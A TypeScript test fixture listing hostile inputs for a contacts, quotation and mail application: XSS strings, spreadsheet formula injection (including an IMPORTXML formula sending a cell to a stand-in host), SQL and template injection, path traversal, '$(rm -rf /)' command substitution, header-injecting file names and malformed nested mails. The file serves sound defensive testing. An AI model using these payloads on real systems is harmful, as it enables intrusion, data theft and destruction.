/**
 * What strangers send in order to make a browser, a spreadsheet, a mail program, a shell or a database do something, by the way in which it
 * comes. Each is tried where it arrives and where it is shown: `tests/hostile/strangers.test.ts`, `tests/hostile/shown.test.tsx`
 * and the tests of imports.
 */

/** Names of people. */
export const hostileNames = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<a href='javascript:alert(1)'>Ana</a>",
  '</title><script>alert(1)</script>',
  '<!--<script>-->',
  ']]><script>alert(1)</script>',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '[Ana](javascript:alert(1))',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '=HYPERLINK("http://x.test","Ana")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x.test/?",A1),"//a")',
  '＝1+1',
  ';=1+1',
  '|calc',
  "'; drop table contacts; --",
  "' or 1=1 --",
  '{"$gt":""}',
  '__proto__',
  'constructor',
  '{{constructor.constructor("return 1")()}}',
  `\${7*7}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  '$(rm -rf /)',
  '`id`',
  'Ana\u202egnp.exe',
] as const

/** Lines of a vCard that would begin another card or another property when they are written out again. */
export const hostileCards = [
  'FN:Ana\\nEND:VCARD\\nBEGIN:VCARD\\nFN:Otra',
  'FN;X="a\\nEMAIL:otra@x.test":Ana',
  'NOTE:<script>alert(1)</script>\\nTEL:+525512345678',
  'PHOTO;VALUE=uri:javascript:alert(1)',
  'URL:javascript:alert(1)',
  'FN;CHARSET=UTF-7:+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
] as const

/** Names of files, as a browser or a mail program sends them. */
export const hostileFileNames = [
  'fotos/../../../etc/passwd',
  '..\\..\\windows\\system32\\calc.exe',
  'foto.jpg\r\nSet-Cookie: sesion=robada',
  'foto.jpg"; filename="virus.exe',
  '"><img src=x onerror=alert(1)>.png',
  'factura\u202egpj.exe',
  'foto.jpg\u0000.exe',
  '=cmd|calc.csv',
  `${'a'.repeat(5000)}.html`,
  '.htaccess',
] as const

/** Texts of a quotation: of a line, its unit, the note and the reason of a refusal. */
export const hostileQuotations = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  ') Tj ET (x) /JavaScript << /S /JavaScript /JS (app.alert(1)) >>',
  'endstream endobj 1 0 obj << /OpenAction 2 0 R >>',
  '[Pagar aquí](javascript:alert(1))',
  'Pago\r\nBcc: otra@x.test',
  '=HYPERLINK("http://x.test";"Pagar")',
  '{{constructor.constructor("return 1")()}}',
] as const

export type HostileMail = { headers?: string[]; type?: string; body: string }

/** Mails to a reply address: headers besides From and To, and a body. */
export const hostileMails = {
  'a page with scripts': {
    type: 'text/html; charset=utf-8',
    body: '<script>alert(1)</script><img src=x onerror=alert(1)><iframe srcdoc="<script>alert(1)</script>"></iframe><a href="javascript:alert(1)">ver</a>',
  },
  'markup in plain text': { body: '</blockquote><script>alert(1)</script>' },
  'a subject that begins another header': {
    headers: ['Subject: =?utf-8?q?Hola=0D=0ABcc:_otra@x.test?='],
    body: 'Hola',
  },
  'an answer address of somebody else': {
    headers: ['Reply-To: otra@x.test', 'Sender: otra@x.test', 'Return-Path: <otra@x.test>'],
    body: 'Hola',
  },
  'an id that is a statement': {
    headers: ["Message-ID: <'; drop table messages; --@x.test>"],
    body: 'Hola',
  },
  'zeros, halves of signs and turned writing': {
    headers: ['Content-Transfer-Encoding: 8bit'],
    body: 'Ho\u0000la \ud800 \u202eadios\u0007',
  },
  'an unknown character set': {
    type: 'text/plain; charset=utf-7',
    body: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  },
  'parts within parts': {
    type: 'multipart/mixed; boundary=p0',
    body: Array.from(
      { length: 200 },
      (_, depth) => `--p${depth}\r\nContent-Type: multipart/mixed; boundary=p${depth + 1}\r\n`,
    ).join('\r\n'),
  },
  'a part without an end': {
    type: 'multipart/mixed; boundary=sin-fin',
    body: '--sin-fin\r\nContent-Type: text/plain\r\n\r\nHola',
  },
  'a quote that never ends': { body: `${'> '.repeat(20_000)}\r\n${'El lun '.repeat(10_000)}` },
  'a deep page': {
    type: 'text/html; charset=utf-8',
    body: `${'<div><blockquote>'.repeat(3_000)}Hola`,
  },
  'a page that is called a picture': {
    type: 'multipart/mixed; boundary=b',
    body: '--b\r\nContent-Type: text/plain\r\n\r\nHola\r\n--b\r\nContent-Type: image/png; name="foto.png"\r\nContent-Disposition: attachment; filename="foto.png"\r\n\r\n<script>alert(1)</script>\r\n--b--',
  },
  'a file with a path and a header in its name': {
    type: 'multipart/mixed; boundary=b',
    body: "--b\r\nContent-Type: text/plain\r\n\r\nHola\r\n--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''..%2F..%2Fa%0D%0ASet-Cookie%3A%20x%3D1.pdf\r\n\r\n%PDF-1.4 /JavaScript\r\n--b--",
  },
  'a mail within the mail': {
    type: 'message/rfc822',
    body: 'From: otra@x.test\r\nTo: otra@x.test\r\nSubject: Hola\r\n\r\nDe otra persona',
  },
} satisfies Record<string, HostileMail>
